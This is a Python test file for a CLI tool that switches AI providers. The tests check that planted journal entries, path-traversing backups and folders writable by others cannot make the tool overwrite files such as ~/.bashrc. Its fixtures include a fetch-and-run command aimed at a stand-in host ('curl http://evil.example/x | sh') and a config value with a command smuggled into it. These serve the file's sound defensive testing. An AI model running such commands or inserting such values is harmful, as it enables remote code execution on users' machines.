"""Switchover's own state is trusted only when it is the user's own (issue 12, finding 4 and 9's umask).

A planted "in progress" journal entry made a plain `history` (any command that recovers) or `undo` write
attacker bytes to any path, e.g. ~/.bashrc; a group/world-writable data or config folder went unnoticed;
under umask 000 Switchover's folders were created 0777. Real CLI in subprocesses.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.reliability.world import World
from tests.support.provider_server import ProviderServer, model_list_reply

Server = Callable[..., ProviderServer]

EVIL = b"curl http://evil.example/x | sh  # planted\n"
USER_RC = b"# my shell setup\nexport EDITOR=vim\n"
SWITCH_ID = "20990101T000000000000Z-abcdef"


def _with_provider(world: World, provider_server: Server) -> None:
    server = provider_server()
    server.on("GET", "/v1/models", model_list_reply("anthropic", ("m",)))
    world.ok("provider", "add", "p", "--anthropic-url", server.url, "--model", "m", "--no-key")


def _sha(data: bytes | None) -> str | None:
    return None if data is None else hashlib.sha256(data).hexdigest()


def _plant(world: World, state: str, target: Path, *, tool: str = "claude-code", backup: str | None = None,
           backup_bytes: bytes = EVIL) -> None:
    """A journal entry (and backup) as an attacker would write it: hashes consistent, path anywhere."""
    journal = world.data / "journal"
    journal.mkdir(parents=True, exist_ok=True, mode=0o700)
    backup = backup or f"backups/{SWITCH_ID}/00-{target.name}"
    backup_path = world.data / backup
    backup_path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    backup_path.write_bytes(backup_bytes)
    entry = {
        "id": SWITCH_ID, "kind": "switch", "state": state, "started": "2099-01-01T00:00:00.000+00:00",
        "provider": "p", "model": "m", "tools": [tool],
        "files": [{"tool": tool, "path": str(target), "before_sha256": _sha(backup_bytes),
                   "after_sha256": _sha(target.read_bytes() if target.exists() else None), "backup": backup,
                   "holds_secret": False, "exposure_before": None}],
        "finished": None if state == "in progress" else "2099-01-01T00:00:01.000+00:00",
    }
    (journal / f"{SWITCH_ID}.json").write_text(json.dumps(entry))
    (world.data / "backups").mkdir(exist_ok=True)
    for folder in (world.data, journal, world.data / "backups", backup_path.parent):
        folder.chmod(0o700)


def test_a_planted_in_progress_entry_never_writes_outside_the_tools_configs(tmp_path: Path) -> None:
    world = World(tmp_path / "w").create()
    bashrc = world.home / ".bashrc"
    bashrc.write_bytes(USER_RC)
    _plant(world, "in progress", bashrc)
    done = world.run("history", "--json")
    assert done.returncode == 0, done.stderr
    assert bashrc.read_bytes() == USER_RC, "recovery wrote the planted bytes into ~/.bashrc"
    [entry] = json.loads(done.stdout)
    assert entry["state"] == "interrupted, rolled back"
    assert any("is not a config file of 'claude-code'" in p for p in entry["problems"])
    assert bashrc.read_bytes() == USER_RC


def test_a_planted_done_entry_cannot_make_undo_write_anywhere(tmp_path: Path) -> None:
    world = World(tmp_path / "w").create()
    bashrc = world.home / ".bashrc"
    bashrc.write_bytes(USER_RC)
    _plant(world, "done", bashrc)
    undo = world.run("undo")
    assert undo.returncode == 1
    assert "Nothing was changed" in undo.stderr and "is not a config file of 'claude-code'" in undo.stderr
    assert bashrc.read_bytes() == USER_RC


def test_a_planted_backup_outside_the_backup_folder_is_refused(tmp_path: Path) -> None:
    """Even for a declared config file, the bytes must come from our own backup folder."""
    world = World(tmp_path / "w").create()
    settings = world.home / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text('{"theme": "dark"}\n')
    outside = world.home / "elsewhere.json"
    outside.write_bytes(b'{"apiKeyHelper": "curl evil"}\n')
    _plant(world, "done", settings, backup="../../../elsewhere.json", backup_bytes=outside.read_bytes())
    undo = world.run("undo")
    assert undo.returncode == 1 and "lies outside" in undo.stderr, undo.stderr
    assert settings.read_text() == '{"theme": "dark"}\n'


@pytest.mark.parametrize("mode", [0o777, 0o775, 0o757])
def test_a_data_folder_others_can_write_is_refused_until_fixed(mode: int, tmp_path: Path,
                                                               provider_server: Server) -> None:
    world = World(tmp_path / "w").create()
    _with_provider(world, provider_server)
    world.ok("use", "p", "--tool", "claude-code")
    files = world.tool_files()
    world.data.chmod(mode)
    for command in (("undo",), ("use", "p", "--tool", "shell-env"), ("history",)):
        done = world.run(*command)
        assert done.returncode == 1, (command, done.stdout)
        assert f"{world.data} is writable by" in done.stderr and f"mode {mode:04o}" in done.stderr
        assert f"chmod go-w {world.data}" in done.stderr and "Nothing was changed" in done.stderr
        assert world.tool_files() == files
    world.data.chmod(0o700)
    world.ok("undo")


def test_a_journal_owned_by_someone_else_is_refused(tmp_path: Path, provider_server: Server) -> None:
    world = World(tmp_path / "w").create()
    _with_provider(world, provider_server)
    world.ok("use", "p", "--tool", "claude-code")
    [journal_file] = sorted((world.data / "journal").glob("*.json"))
    if os.geteuid() == 0:  # root can hand the file to another user, as a planted one would be
        os.chown(journal_file, 65534, 65534)
        expected = "belongs to another user (uid 65534)"
    else:  # without root, a group-writable file shows the same refusal path
        journal_file.chmod(0o660)
        expected = "is writable by its group"
    undo = world.run("undo")
    assert undo.returncode == 1 and expected in undo.stderr, undo.stderr


def test_a_store_others_can_write_is_not_trusted(tmp_path: Path) -> None:
    world = World(tmp_path / "w").create()
    world.ok("provider", "add", "p", "--anthropic-url", "http://127.0.0.1:9", "--model", "m", "--no-key")
    config = world.home / ".config" / "switchover"
    config.chmod(0o777)
    listed = world.run("provider", "list")
    assert listed.returncode == 1
    assert f"{config} is writable by group and others (mode 0777)" in listed.stderr
    assert "store cannot be trusted" in listed.stderr
    config.chmod(0o700)
    assert world.run("provider", "list").returncode == 0


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_own_folders_are_private_whatever_the_umask(umask: int, tmp_path: Path, provider_server: Server) -> None:
    world = World(tmp_path / "w").create()
    for sub in (".config", ".local/share", ".local/state"):  # fresh XDG dirs: Switchover creates its own
        (world.home / sub).rmdir()
    previous = os.umask(umask)
    try:
        _with_provider(world, provider_server)
        world.ok("use", "p", "--tool", "claude-code", "--tool", "shell-env")
        world.ok("use", "p", "--tool", "claude-code", "--tool", "shell-env")
        world.run("check")
    finally:
        os.umask(previous)
    ours = [world.home / ".config" / "switchover", world.data, world.home / ".local" / "state" / "switchover"]
    checked = 0
    for root in ours:
        assert root.is_dir(), root
        for path in [root, *root.rglob("*")]:
            mode = stat.S_IMODE(path.lstat().st_mode)
            if path.is_dir():
                assert mode == 0o700, (path, oct(mode))
            else:
                assert not mode & 0o022, (path, oct(mode))
            checked += 1
    assert checked > 8
    for parent in (world.home / ".config", world.home / ".local" / "share", world.home / ".local" / "state"):
        assert not stat.S_IMODE(parent.stat().st_mode) & 0o077, parent
